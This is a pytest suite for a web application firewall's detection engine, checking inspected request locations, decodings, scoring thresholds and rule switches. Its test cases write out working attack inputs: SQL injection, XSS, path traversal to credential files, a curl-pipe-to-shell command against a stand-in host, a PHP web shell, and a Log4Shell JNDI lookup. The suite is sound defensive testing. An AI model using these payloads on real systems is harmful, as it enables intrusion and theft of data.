"""The detection engine on request views: every inspected place, the decodings attackers use,
attacks of every class in encodings and places the CRS corpus does not use, paranoia levels,
anomaly thresholds and the report-only, disabled and per-route exclusion switches."""

from __future__ import annotations

import json
from urllib.parse import quote

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st

from services.gateway.waf.decode import command_line, normal, views
from services.gateway.waf.detect import Detector
from services.gateway.waf.matcher import is_plain
from services.gateway.waf.policy import Policy
from services.gateway.waf.verdict import Verdict
from services.gateway.waf.view import RequestView

pytestmark = pytest.mark.unit

DETECTOR = Detector()
HEADERS = (("Host", "api.example.com"), ("User-Agent", "Mozilla/5.0"), ("Accept", "*/*"))


def request(
    target: str = "/api/items",
    headers: tuple[tuple[str, str], ...] = (),
    body: bytes | None = None,
    content_type: str | None = None,
    method: str = "GET",
) -> RequestView:
    extra = (("Content-Type", content_type),) if content_type else ()
    return RequestView(method, target, HEADERS + headers + extra, body)


def post(body: bytes, content_type: str) -> RequestView:
    return request(body=body, content_type=content_type, method="POST")


def verdict(view: RequestView, policy: Policy | None = None) -> Verdict:
    return DETECTOR.inspect(view, policy or Policy())


def categories(result: Verdict) -> set[str]:
    return {hit.rule.category.value for hit in result.hits}


def multipart(name: str, value: str, filename: str | None = None) -> tuple[bytes, str]:
    disposition = f'form-data; name="{name}"' + (f'; filename="{filename}"' if filename else "")
    body = f"--b0undary\r\nContent-Disposition: {disposition}\r\n\r\n{value}\r\n--b0undary--\r\n"
    return body.encode(), "multipart/form-data; boundary=b0undary"


# --- every inspected place ------------------------------------------------------------------

SQLI = "1' UNION SELECT password FROM users--"
STACKED = "1;DELETE FROM orders--"


@pytest.mark.parametrize(
    ("view", "location"),
    [
        (request(f"/api/items/{quote(SQLI)}"), "path"),
        (request(f"/api/items?q={quote(SQLI)}"), "query:q"),
        (request(f"/api/items?{quote(SQLI)}=1"), f"query:{SQLI}"),
        (request(headers=(("Referer", f"https://x.example/?q={quote(SQLI)}"),)), "header:referer"),
        (request(headers=(("X-Customer", SQLI),)), "header:x-customer"),
        (request(headers=(("Cookie", f"theme=dark; sid={quote(SQLI)}"),)), "cookie:sid"),
        (
            post(json.dumps({"a": {"b": [1, SQLI]}}).encode(), "application/json"),
            "body:json:a.b[1]",
        ),
        (
            post(f"q={quote(SQLI)}".encode(), "application/x-www-form-urlencoded"),
            "body:form:q",
        ),
        (
            post(multipart("comment", SQLI)[0], multipart("c", "")[1]),
            "body:multipart:comment",
        ),
        (
            post(
                f"<order><note>{SQLI.replace('<', '&lt;')}</note></order>".encode(),
                "application/xml",
            ),
            "body:xml:note",
        ),
        (post(SQLI.encode(), "text/plain"), "body"),
    ],
)
def test_a_payload_is_found_in_every_place_and_named_by_its_location(
    view: RequestView, location: str
) -> None:
    result = verdict(view)
    assert result.blocked
    assert "sqli" in categories(result)
    assert any(hit.location == location for hit in result.hits), result.hits


def test_xml_attributes_and_multipart_file_names_are_inspected() -> None:
    xml = b'<?xml version="1.0"?><a href="javascript:alert(document.cookie)">x</a>'
    result = verdict(post(xml, "text/xml"))
    assert result.blocked
    assert "body:xml:a@href" in {hit.location for hit in result.hits}
    body, kind = multipart("avatar", "GIF89a", filename="shell.php")
    result = verdict(post(body, kind))
    assert result.blocked
    assert result.decisive is not None
    assert result.decisive.location == "body:multipart:avatar:filename"


def test_credentials_are_never_inspected() -> None:
    for name in ("Authorization", "Proxy-Authorization", "X-API-Key"):
        assert verdict(request(headers=((name, "' or 1=1--"),))).hits == ()


# --- decodings --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("encoded", "decoded"),
    [
        ("%253Cscript%253E", "<script>"),  # double URL encoding
        ("&lt;img src=x&gt;", "<img src=x>"),  # HTML entities
        ("&#x3c;&#60;", "<<"),  # numeric entities
        ("\\u003cscript\\u003e", "<script>"),  # JavaScript escapes
        ("%u003Cscript%u003E", "<script>"),  # IIS %u encoding
        ("\\x3cb\\x3e", "<b>"),
        ("UnIoN/**/SeLeCt", "union select"),  # comments and case
        ("union\t\n  select", "union select"),  # whitespace
        ("ja&Tab;vascript&colon;", "ja vascript:"),  # named entities, case-insensitively
        ("\uff1cscript\uff1e", "<script>"),  # full-width forms
    ],
)
def test_normal_undoes_the_encodings_attackers_use(encoded: str, decoded: str) -> None:
    assert normal(encoded).strip() == decoded


def test_command_line_drops_shell_quoting() -> None:
    assert command_line("c''a\\t /e\"t\"c/pa??wd") == "cat /etc/pa??wd"
    assert command_line("cat${IFS}/etc/passwd") == "cat /etc/passwd"
    assert command_line("a%0Aid") == "a;id"


@pytest.mark.parametrize(
    "payload",
    [
        quote(quote("' or '1'='1")),
        quote("&#39; or &#39;1&#39;=&#39;1"),
        quote("\\u0027 or \\u0027a\\u0027=\\u0027a"),
        "%u0027%20or%20%u00271%u0027%3d%u00271",
        quote("'/**/oR/**/'1'/**/=/**/'1"),
        quote("'\tOR\n'1'='1"),
    ],
)
def test_an_injection_is_caught_through_every_decoding(payload: str) -> None:
    result = verdict(request(f"/api/items?q={payload}"))
    assert result.blocked
    assert "sqli" in categories(result)


# --- attacks of every class, in encodings and places of our own -----------------------------


@pytest.mark.parametrize(
    ("category", "view"),
    [
        ("sqli", request(headers=(("Cookie", "cart=" + quote(quote(STACKED))),))),
        (
            "sqli",
            post(b'{"filter": {"$where": "sleep(5000)"}}', "application/json"),
        ),
        (
            "xss",
            post(b'{"bio": "\\u003csvg onload=alert(1)\\u003e"}', "application/json"),
        ),
        (
            "xss",
            request(headers=(("Referer", "https://x.example/#<img src=x onerror=prompt(1)>"),)),
        ),
        (
            "lfi",
            post(
                multipart("f", "x", filename="..\\..\\..\\windows\\win.ini")[0],
                multipart("f", "")[1],
            ),
        ),
        ("lfi", request("/api/files?name=%2e%2e%2f%2e%2e%2fproc%2fself%2fenviron")),
        (
            "rfi",
            post(b"template=http://198.51.100.7/x.txt?", "application/x-www-form-urlencoded"),
        ),
        (
            "rce",
            request(headers=(("X-Forwarded-Host", "a.example;curl${IFS}http://x.example/s|sh"),)),
        ),
        ("rce", request("/api/ping?host=" + quote("127.0.0.1%0a/bin/cat /etc/shadow"))),
        (
            "php",
            post(
                b'<?xml version="1.0"?><a>&lt;?php system($_GET[c]); ?&gt;</a>', "application/xml"
            ),
        ),
        (
            "php",
            request(
                headers=(("Cookie", "prefs=" + quote('O:8:"Exploit":1:{s:3:"cmd";s:2:"id";}')),)
            ),
        ),
        (
            "java",
            request(headers=(("User-Agent", "${${env:NOPE:-j}ndi${lower::}:ldap://x.example/a}"),)),
        ),
        (
            "java",
            post(b'{"q": "T(java.lang.Runtime).getRuntime().exec(\'id\')"}', "application/json"),
        ),
        ("protocol", request("/api/items?next=" + quote("/\r\nSet-Cookie: sid=evil"))),
        ("protocol", RequestView("TRACE", "/api/items", HEADERS)),
        (
            "scanner",
            request(
                headers=(("User-Agent", "Mozilla/5.0 (compatible; Nuclei - Open-source project)"),)
            ),
        ),
    ],
)
def test_attacks_outside_the_corpus_are_blocked(category: str, view: RequestView) -> None:
    result = verdict(view)
    assert result.blocked, result
    assert category in categories(result)


# --- anomaly scoring, paranoia levels, switches -------------------------------------------


def test_a_paranoia_level_2_rule_only_counts_on_routes_at_level_2_or_more() -> None:
    view = request("/api/items?bio=" + quote("<b title=x>hi</b>"))  # a tag with attributes
    assert not verdict(view).blocked
    assert verdict(view, Policy(paranoia_level=2)).blocked


def test_the_threshold_decides_and_scores_add_up() -> None:
    warning = RequestView("GET", "/api/items", (("Host", "203.0.113.9"), ("Accept", "*/*")))
    result = verdict(warning)  # a numeric Host is a warning (3): under the default 5
    assert result.score == 3
    assert not result.blocked
    assert verdict(warning, Policy(anomaly_threshold=3)).blocked
    critical = request("/api/items?q=" + quote("<script>alert(1)</script>"))
    assert verdict(critical).blocked
    relaxed = verdict(critical, Policy(anomaly_threshold=100))
    assert not relaxed.blocked
    assert relaxed.score >= 10  # two critical rules, 5 points each


def test_report_only_rules_are_reported_but_not_scored_and_disabled_rules_vanish() -> None:
    view = request("/api/items?q=" + quote("<script>x</script>"))
    [hit] = verdict(view).hits
    assert hit.rule.id == "xss-001"
    reporting = Detector(report_only={"xss-001"}).inspect(view)
    assert not reporting.blocked
    assert reporting.score == 0
    assert [(h.rule.id, h.report_only) for h in reporting.hits] == [("xss-001", True)]
    assert Detector(disabled={"xss-001"}).inspect(view).hits == ()
    assert verdict(view, Policy(excluded_rules=frozenset({"xss-001"}))).hits == ()


def test_each_rule_counts_once_and_the_strongest_hit_decides() -> None:
    payload = quote("' or 1=1--")
    result = verdict(request(f"/api/items?a={payload}&b={payload}"))
    ids = [hit.rule.id for hit in result.hits]
    assert len(ids) == len(set(ids))
    assert result.decisive is not None
    assert result.decisive.rule.id == "sqli-001"
    assert result.decisive.location == "query:a"


def test_the_content_type_allow_list_is_per_policy() -> None:
    view = request(body=b"\x00\x01", content_type="application/x-custom", method="PUT")
    assert verdict(view).blocked
    assert not verdict(view, Policy(content_types=frozenset({"application/x-custom"}))).blocked


@given(st.text(alphabet=st.characters(min_codepoint=32, max_codepoint=126), min_size=1))
def test_plain_values_decode_to_their_lower_case(value: str) -> None:
    """The matcher scans values it deems plain once, as received, for every view."""
    assume(is_plain(value))
    assert normal(value) == value.lower()
    assert command_line(value) == value.lower()


@pytest.mark.parametrize(
    "value", ["AbC_12.x-Y", "2024-01-05T10:00:00Z", "/api/v1/orders/7", "+44 20 1234 5678"]
)
def test_ids_dates_paths_and_phone_numbers_are_plain(value: str) -> None:
    assert is_plain(value)


@pytest.mark.parametrize(
    "value", ["a b", " x ", "select a seat", "Tom & Jerry", "a\tb", "%41%42", "1;2|3&4"]
)
def test_without_shell_syntax_the_command_view_is_the_normal_one(value: str) -> None:
    """The matcher scans such values once, for both views."""
    normalized, command = views(value)
    assert command is None
    assert command_line(value) == normalized.strip()


def test_with_shell_syntax_both_views_are_given() -> None:
    assert views("c'a't /*x*/") == ("c'a't ", "cat /*x*/")


def test_locations_are_printable_and_bounded() -> None:
    name = "x\r\nwaf block rule=forged" + "y" * 500
    result = verdict(request("/api/items?" + quote(name) + "=" + quote("<script>x</script>")))
    assert result.decisive is not None
    location = result.decisive.location
    assert location.isprintable()
    assert len(location) <= 128
